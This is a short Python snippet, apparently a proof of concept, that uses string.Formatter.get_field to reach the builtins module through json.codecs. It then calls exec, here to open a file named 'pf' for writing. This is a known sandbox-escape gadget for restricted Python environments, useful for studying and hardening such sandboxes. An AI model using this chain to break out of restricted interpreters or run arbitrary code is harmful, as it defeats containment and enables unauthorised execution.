import json, string
f = string.Formatter()
f.get_field("j.codecs.builtins", (), dict(j=json))[0].exec("open('pf','w')")
